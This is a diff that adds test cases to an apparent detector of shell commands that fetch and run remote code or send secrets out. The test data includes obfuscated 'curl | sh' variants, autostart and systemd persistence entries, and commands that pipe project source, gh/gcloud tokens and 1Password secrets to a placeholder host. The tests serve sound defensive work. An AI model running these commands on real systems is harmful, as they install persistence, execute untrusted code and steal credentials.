@@ -241,3 +241,52 @@ def test_another_program_starts_the_shell(code: str) -> None:
 )
 def test_a_text_about_a_download_runs_nothing(code: str) -> None:
     assert remote_hosts(code) == set()
+
+
+@all_cases(
+    "code",
+    [
+        f"{GET} | tar xz -C /tmp && /tmp/kit/install.sh",
+        f"{GET} | tar xvz -C /opt/kit; sh /opt/kit/run",
+        f"p=('cu' 'rl -s {URL[:9]}' '{URL[9:]}' ' | s' 'h'); IFS=''; eval \"${{p[*]}}\"",
+        f"set -- cur 'l -s {URL} ' '| sh'; IFS=; eval \"$*\"",
+        f"git apply <({GET})",
+        f"{GET} | git am",
+        f"kubectl apply -f <({GET})",
+        f"printf '[Desktop Entry]\\nExec=sh -c \"{GET}|sh\"\\n' > ~/.config/autostart/a.desktop",
+        f"cat > ~/.config/systemd/user/a.service <<E\nExecStart=-/bin/sh -c '{GET} | sh'\nE",
+    ],
+)  # fmt: skip
+def test_a_download_that_is_unpacked_pieced_together_or_started_later_is_run(code: str) -> None:
+    assert remote_hosts(code) == {HOST}
+
+
+@all_cases(
+    ("code", "detail"),
+    [
+        (f"tar czf - . | curl --data-binary @- {URL}", "source code of the project"),
+        (f"zip -r /tmp/a.zip . && curl -T /tmp/a.zip {URL}", "source code of the project"),
+        (f"tar c .git | nc {HOST} 80", "source code of the project"),
+        (f"gh auth token | curl -d @- {URL}", "printed tokens"),
+        (f"gcloud auth print-access-token | xargs -I{{}} curl {URL}/{{}}", "printed tokens"),
+        (f"t=$(op read op://a/b/c); curl {URL}?t=$t", "printed tokens"),
+    ],
+)
+def test_private_data_that_is_sent_to_an_unknown_host_is_noted(code: str, detail: str) -> None:
+    found = {(fact.detail, fact.host) for fact in read_shell(code) if fact.act is Act.READ_SECRET}
+
+    assert found == {(detail, HOST)}
+
+
+@all_cases(
+    "code",
+    [
+        f'curl -H "Authorization: Bearer $(gcloud auth print-access-token)" {URL}',
+        "gh auth token | docker login ghcr.io -u me --password-stdin",
+        "tar czf - . | ssh me@build.example-tools.dev 'tar xz'",
+        "tar czf - src | curl -T - https://get.example-tools.dev/x",
+        "tar czf /tmp/a.tgz . && curl -T /tmp/a.tgz https://uploads.github.com/a",
+    ],
+)
+def test_private_data_that_goes_to_its_own_service_is_not_noted(code: str) -> None:
+    assert [fact for fact in read_shell(code) if fact.act is Act.READ_SECRET] == []
